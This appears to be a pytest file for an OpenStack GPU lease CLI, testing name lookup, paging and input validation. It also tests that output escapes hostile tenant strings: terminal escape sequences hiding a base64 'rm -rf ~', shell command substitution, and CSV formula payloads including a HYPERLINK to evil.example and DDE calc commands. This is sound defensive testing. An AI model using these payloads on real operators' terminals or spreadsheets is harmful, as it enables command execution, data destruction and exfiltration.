"""`openstack gpu lease ...` on what a user types: a lease's name once an earlier lease of the
same name has ended, a --limit larger than one page, a shrink longer than the lease, a
volume size that is not one; and what `lease show` prints of a lease under an early-end
notice."""
from __future__ import annotations

import argparse
import csv
import io
import json
from types import SimpleNamespace

import pytest

pytest.importorskip("osc_lib", reason="the `cli` extra is not installed")
from osc_lib import exceptions  # noqa: E402

from gpu_tenancy.csv_cells import FORMULA_STARTS  # noqa: E402
from gpu_tenancy.osc.client import GpuClient  # noqa: E402
from gpu_tenancy.osc.lease import CreateLease, ExtendLease, ListLease, ShowLease, show_lease  # noqa: E402
from gpu_tenancy.osc.lease_shrink import ShrinkLease  # noqa: E402
from tests.unit.test_osc_lease_actions import Response  # noqa: E402

OLD = {"id": "8d3f0c5e-0000-4000-8000-000000000001", "name": "train", "status": "ended", "duration": 86400}
NEW = {"id": "8d3f0c5e-0000-4000-8000-000000000002", "name": "train", "status": "active", "duration": 9000}
NOT_FOUND = {"errors": [{"status": 404, "code": "gpu_tenancy.lease_not_found", "detail": "lease not found"}]}


class Http:
    """The keystoneauth adapter, answering as the API would: `leases` in pages of at most
    `max_page` (the API refuses a larger limit, 400), each lease by its id."""

    def __init__(self, leases: list[dict], max_page: int = 1000):
        self.leases, self.max_page = leases, max_page
        self.sent: list[tuple[str, str, object, object]] = []

    def request(self, path, method, json=None, params=None, raise_exc=False, headers=None):
        self.sent.append((method, path, json, params))
        by_id = {lease["id"]: lease for lease in self.leases}
        if path.startswith("/v1/leases?") or path == "/v1/leases":
            query = dict(params or {})
            if "?" in path:
                query.update(part.split("=", 1) for part in path.split("?", 1)[1].split("&"))
            limit = int(query.get("limit", 100))
            if not 1 <= limit <= self.max_page:
                return Response(400, {"errors": [{"status": 400, "code": "gpu_tenancy.invalid_query",
                                                  "detail": f"query parameter limit must be between 1 and "
                                                            f"{self.max_page}"}]})
            ids = [lease["id"] for lease in self.leases]
            start = ids.index(query["marker"]) + 1 if "marker" in query else 0
            page = self.leases[start:start + limit]
            body: dict = {"leases": page}
            if start + limit < len(self.leases):
                body["leases_links"] = [{"rel": "next", "href": f"/v1/leases?limit={limit}&marker={page[-1]['id']}"}]
            return Response(200, body)
        lease_id = path.split("/")[3]
        if lease_id not in by_id:
            return Response(404, NOT_FOUND)
        if method == "PATCH":
            return Response(200, {"lease": {**by_id[lease_id], **json}})
        return Response(200, {"lease": by_id[lease_id]})


def run(command_class, http: Http, *argv):
    command = command_class(SimpleNamespace(client_manager=SimpleNamespace(gpu=GpuClient(http, "p"))),
                            argparse.Namespace())
    return command.take_action(command.get_parser("openstack gpu lease").parse_args(argv))


def test_a_name_finds_the_unfinished_lease_when_an_ended_one_had_it_too():
    """README: names are unique among a project's unfinished leases. Asked again under the
    same name after the first ended, `lease show train` answered "2 leases are named 'train';
    give the id", and so did extend, shrink, cancel and done."""
    http = Http([OLD, NEW])
    columns, values = run(ShowLease, http, "train")
    assert dict(zip(columns, values))["id"] == NEW["id"]
    run(ExtendLease, http, "train", "--by", "1h")
    assert http.sent[-1][:3] == ("PATCH", f"/v1/leases/{NEW['id']}", {"duration": 9000 + 3600})


def test_two_finished_leases_of_one_name_still_need_the_id():
    http = Http([OLD, {**OLD, "id": "8d3f0c5e-0000-4000-8000-000000000003", "status": "cancelled"}])
    with pytest.raises(exceptions.CommandError, match="2 leases are named 'train'; give the id"):
        run(ShowLease, http, "train")


def test_list_limit_counts_leases_not_the_apis_page():
    """`lease list --limit 1001` ("at most this many leases") was sent as the page size and
    refused: query parameter limit must be between 1 and 1000."""
    leases = [{**NEW, "id": f"8d3f0c5e-0000-4000-8000-{n:012d}", "name": f"l{n}"} for n in range(250)]
    http = Http(leases)
    client = GpuClient(http, "p")
    assert [lease["id"] for lease in client.leases(limit=1001)] == [lease["id"] for lease in leases]
    assert [lease["id"] for lease in client.leases(limit=120)] == [lease["id"] for lease in leases[:120]]
    assert len(client.leases()) == 250


def test_a_shrink_longer_than_the_lease_is_refused_in_words_before_asking():
    """`lease shrink train --by 5h` on a 2.5 h lease sent duration -9000; the API's answer was
    "invalid input for 'duration': -9000 is not valid under any of the given schemas"."""
    http = Http([NEW])
    with pytest.raises(exceptions.CommandError, match=r"lease train is 2 h 30 min long: shorter by 5 h would "
                                                      r"leave less than a minute"):
        run(ShrinkLease, http, NEW["id"], "--by", "5h")
    assert [m for m, *_ in http.sent] == ["GET"]   # nothing was asked to change
    run(ShrinkLease, http, NEW["id"], "--by", "30m")
    assert http.sent[-1][:3] == ("PATCH", f"/v1/leases/{NEW['id']}", {"duration": 9000 - 1800, "shrink": True})


@pytest.mark.parametrize("size", ["-5", "0"])
def test_a_volume_size_that_is_not_one_is_refused_by_the_parser(size, capsys):
    """--volume-size -5 went to the API, whose answer was "invalid input for 'volume':
    {'size_gb': -5} is not valid under any of the given schemas"."""
    parser = CreateLease(SimpleNamespace(), argparse.Namespace()).get_parser("openstack gpu lease create")
    with pytest.raises(SystemExit) as exit_:
        parser.parse_args(["--shape", "a100.x1", "--duration", "1h", "--volume-size", size])
    assert exit_.value.code == 2
    assert f"argument --volume-size: '{size}' is not a size in GB" in capsys.readouterr().err
    assert parser.parse_args(["--shape", "a100.x1", "--duration", "1h", "--volume-size", "100"]).volume_size == 100


def test_show_tells_of_an_early_end_notice():
    """A borrowing lease under a reclaim notice keeps its `end`; the API says when it really
    ends in `early_end`, which `lease show` left out (its table and -f json alike)."""
    notice = {"kind": "reclaimed", "at": "2026-12-07T10:00:00Z", "for_lease": "8d3f0c5e-0000-4000-8000-0000000000ff",
              "reason": "project nlp-lab's GPUs are reclaimed from borrowers"}
    columns, values = show_lease({**NEW, "end": "2026-12-08T09:00:00Z", "early_end": notice})
    shown = dict(zip(columns, values))
    assert "early_end" in shown
    assert shown["early_end"].machine_readable() == notice
    assert "at=2026-12-07T10:00:00Z" in shown["early_end"].human_readable()


# The API refuses DEL and the C1 controls in a lease's name now (U+009B is CSI, U+009D OSC,
# U+009C ST: xterm acts on them), but the CLI does not count on the API it talks to being as
# new as itself; and a tenant's own Neutron network, whose name is anything, reaches
# `lease show` in the VMs' addresses.
HOSTILE_NAME = "x\u009d52;c;cm0gLXJmIH4=\u009c\u007f\u009b2J$(touch pwned)`id`"
HOSTILE_NET = "net\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\n| forged | row |"
HOSTILE = {**NEW, "name": HOSTILE_NAME, "project_id": "nlp-lab", "shape": "a100.x1", "instances": 1,
           "start": "2026-12-07T08:00:00Z", "end": "2026-12-07T10:30:00Z",
           "servers": [{"id": "s1", "status": "ACTIVE", "ssh": None,
                        "addresses": [{"ip": "10.0.0.5", "kind": "fixed", "network": HOSTILE_NET}]}]}


def output(command_class, http: Http, *argv) -> str:
    """What the command prints (cliff's formatters, as `openstack` runs it)."""
    import io
    app = SimpleNamespace(client_manager=SimpleNamespace(gpu=GpuClient(http, "p")), stdout=io.StringIO())
    command = command_class(app, argparse.Namespace())
    command.run(command.get_parser("openstack gpu lease").parse_args(argv))
    return app.stdout.getvalue()


TERMINAL_ACTS_ON = ("\x1b", "\x07", "\x7f", "\u009b", "\u009c", "\u009d")


@pytest.mark.parametrize("fmt", ["table", "value", "csv"])
def test_a_tenants_words_reach_an_operators_terminal_inert(fmt):
    """`lease list --all-projects` and `lease show` printed a lease's name and a network's
    name raw: OSC 52 set the operator's clipboard, CSI cleared the screen, a newline forged
    a table row. Every control is now written as its escape (\\x1b); -f json stays exact."""
    commands = ((ListLease, ("--all-projects",)), (ShowLease, (HOSTILE["id"],)))
    for command, argv in commands[:1] if fmt == "csv" else commands:   # csv: lists only
        printed = output(command, Http([HOSTILE]), *argv, "-f", fmt)
        assert not any(c in printed for c in TERMINAL_ACTS_ON), (command.__name__, printed)
        assert "52;c;cm0gLXJmIH4=" in printed   # still there to read
    if fmt == "table":
        shown = output(ShowLease, Http([HOSTILE]), HOSTILE["id"], "-f", fmt)
        assert "x\\x9d52;c;cm0gLXJmIH4=\\x9c\\x7f\\x9b2J$(touch pwned)`id`" in shown
        assert "\\x1b]52;c;cm0gLXJmIH4=\\x07\\x1b[2J\\n| forged | row |" in shown
    exact = json.loads(output(ShowLease, Http([HOSTILE]), HOSTILE["id"], "-f", "json"))
    assert exact["name"] == HOSTILE_NAME and exact["servers"][0]["addresses"][0]["network"] == HOSTILE_NET
    assert json.loads(output(ListLease, Http([HOSTILE]), "-f", "json"))[0]["Name"] == HOSTILE_NAME


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"report")', "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"])
def test_lease_list_as_csv_gives_a_spreadsheet_no_formula(name):
    """`lease list --all-projects -f csv` is an admin's spreadsheet: a lease named `=HYPERLINK(...)`
    was a live formula in it (sending the sheet's cells away, or running a command through DDE).
    Such a cell is written as text, with a leading apostrophe, as the API's CSV exports write it."""
    printed = output(ListLease, Http([{**HOSTILE, "name": name}]), "--all-projects", "-f", "csv")
    header, *rows = list(csv.reader(io.StringIO(printed)))
    assert [row[header.index("Name")] for row in rows] == ["'" + name]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert json.loads(output(ListLease, Http([{**HOSTILE, "name": name}]), "-f", "json"))[0]["Name"] == name


def test_shell_output_runs_nothing_a_tenant_wrote(tmp_path):
    """-f shell is for `eval`: cliff escapes only '"', so a lease named `$(touch pwned)` ran
    the command in the operator's shell."""
    import subprocess
    printed = output(ShowLease, Http([HOSTILE]), HOSTILE["id"], "-f", "shell", "--prefix", "lease_")
    script = printed + 'printf %s "$lease_name"'
    result = subprocess.run(["sh", "-c", script], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert not (tmp_path / "pwned").exists() and not result.stderr
    assert result.stdout == "x\\x9d52;c;cm0gLXJmIH4=\\x9c\\x7f\\x9b2J$(touch pwned)`id`"


def test_create_waits_events_reach_stderr_inert():
    """--wait wrote each event's message raw; `lease done --detail` puts a guest's words there."""
    from gpu_tenancy.osc.lease import describe_event
    event = {"at": "2026-12-07T10:00:00Z", "kind": "done", "message": "exit 0\x1b]52;c;aGk=\x07"}
    assert describe_event(event) == "2026-12-07T10:00:00Z  done: exit 0\\x1b]52;c;aGk=\\x07"


@pytest.mark.parametrize("limit", ["0", "-5", "ten"])
def test_a_list_limit_that_is_not_a_count_is_refused_by_the_parser(limit, capsys):
    """`lease list --limit 0` ("at most this many leases") listed every lease: 0 read as no limit."""
    parser = ListLease(SimpleNamespace(), argparse.Namespace()).get_parser("openstack gpu lease list")
    with pytest.raises(SystemExit) as exit_:
        parser.parse_args(["--limit", limit])
    assert exit_.value.code == 2 and f"argument --limit: '{limit}' is not a count" in capsys.readouterr().err
    assert parser.parse_args(["--limit", "3"]).limit == 3


@pytest.mark.parametrize("name", ["..", "."])
def test_a_dot_segment_is_never_sent_as_an_id(name):
    """`lease show ..` asked GET /v1/leases/.., which requests (and any proxy) resolve to GET /v1/:
    another resource than the one named; `quota set .. ...` likewise asked /v1/."""
    http = Http([{**NEW, "name": name}])
    columns, values = run(ShowLease, http, name)
    assert dict(zip(columns, values))["id"] == NEW["id"]   # found by its name
    assert [path for _, path, *_ in http.sent] == ["/v1/leases"]
    with pytest.raises(exceptions.CommandError, match="is not an id"):
        GpuClient(http, "p").quota(name)
    assert len(http.sent) == 1


def test_each_vms_ssh_line_stays_a_line_of_its_own():
    """The ssh cell joins one line per VM: those newlines are the CLI's, not a tenant's, and
    stay when the rest is made inert; -f json keeps the one string."""
    servers = [{"id": f"s{n}", "status": "ACTIVE", "ssh": f"ssh ubuntu@10.0.0.{n}"} for n in (5, 6)]
    lease = {**HOSTILE, "servers": servers}
    table = output(ShowLease, Http([lease]), lease["id"], "-f", "table")
    ssh = [line for line in table.splitlines() if "ssh ubuntu@10" in line]
    assert len(ssh) == 2 and "10.0.0.5" in ssh[0] and "10.0.0.6" in ssh[1]
    exact = json.loads(output(ShowLease, Http([lease]), lease["id"], "-f", "json"))
    assert exact["ssh"] == "ssh ubuntu@10.0.0.5\nssh ubuntu@10.0.0.6"
    assert output(ShowLease, Http([lease]), lease["id"], "-f", "value", "-c", "ssh") == exact["ssh"] + "\n"
